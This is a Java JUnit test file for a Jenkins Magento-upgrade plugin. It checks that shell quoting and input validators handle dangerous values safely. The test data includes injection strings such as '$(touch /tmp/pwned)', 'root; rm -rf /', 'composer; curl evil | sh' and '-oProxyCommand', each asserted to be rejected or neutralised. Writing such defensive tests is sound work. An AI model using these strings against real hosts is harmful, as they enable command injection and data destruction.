package io.jenkins.plugins.magentodmt.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellTest {

    @ParameterizedTest
    @ValueSource(strings = {"plain", "it's", "$(touch /tmp/pwned)", "`id`", "a\"b", "back\\slash", "new\nline", "*", " spaced ", "'", "''"})
    void aQuotedValueReachesTheShellUnchanged(String value) throws Exception {
        Map<String, String> params = new LinkedHashMap<>();
        params.put("DMT_VALUE", value);
        byte[] script = (HostScripts.header(params) + "printf '%s' \"$DMT_VALUE\"\n").getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int exit = new LocalHost().execute("sh -s", script, out, new ByteArrayOutputStream(), Duration.ofSeconds(10));
        assertEquals(0, exit);
        assertEquals(value, out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void composerAuthTravelsInAHereDocumentUnexpanded() throws Exception {
        String json = "{\"http-basic\":{\"repo.magento.com\":{\"username\":\"pub\",\"password\":\"$(id) `x` \\\\ '\"}}}";
        byte[] script = (HostScripts.composerAuth(SecretText.of(json)) + "printf '%s' \"$COMPOSER_AUTH\"\n").getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new LocalHost().execute("sh -s", script, out, new ByteArrayOutputStream(), Duration.ofSeconds(10));
        assertEquals(json, out.toString(StandardCharsets.UTF_8));
    }

    @Test
    void magentoRootsMustBePlainAbsolutePaths() throws DmtException {
        assertEquals("/var/www/magento", Shell.magentoRoot("/var/www/magento/"));
        assertEquals("/srv/shop it's", Shell.magentoRoot("/srv/shop it's"));
        for (String bad : new String[] {"", "relative/path", "/var/www/../etc", "/var/./www", "/var/www\n/etc"}) {
            DmtException e = assertThrows(DmtException.class, () -> Shell.magentoRoot(bad), bad);
            assertEquals(DmtException.Kind.BAD_INPUT, e.kind());
        }
    }

    @Test
    void usersComposerCommandsAndHostsAreChecked() throws DmtException {
        assertEquals("www-data", Shell.user("www-data", "owner"));
        assertThrows(DmtException.class, () -> Shell.user("root; rm -rf /", "owner"));
        assertThrows(DmtException.class, () -> Shell.user("-oProxyCommand", "owner"));
        assertEquals("php8.2 /usr/local/bin/composer.phar", Shell.composerCommand("php8.2  /usr/local/bin/composer.phar"));
        assertEquals("composer", Shell.composerCommand(null));
        assertThrows(DmtException.class, () -> Shell.composerCommand("composer; curl evil | sh"));
        assertThrows(DmtException.class, () -> Shell.composerCommand("composer $(id)"));
        assertEquals("shop.example.com", Shell.host(" shop.example.com "));
        assertThrows(DmtException.class, () -> Shell.host("-oProxyCommand=x"));
        assertThrows(DmtException.class, () -> Shell.port(0));
    }

    @Test
    void badRequestValuesAreRefusedBeforeAnythingRuns() {
        assertThrows(DmtException.class, () -> UpgradeRequest.builder("/var/www").version("2.4.7-p3").build());
        assertThrows(DmtException.class, () -> UpgradeRequest.builder("/var/www").owner("www data").build());
        assertThrows(DmtException.class, () -> UpgradeRequest.builder("/var/www").timeout(Duration.ZERO).build());
        assertThrows(DmtException.class, () -> UpgradeRequest.builder("/var/www").holder("two\nlines").build());
    }
}
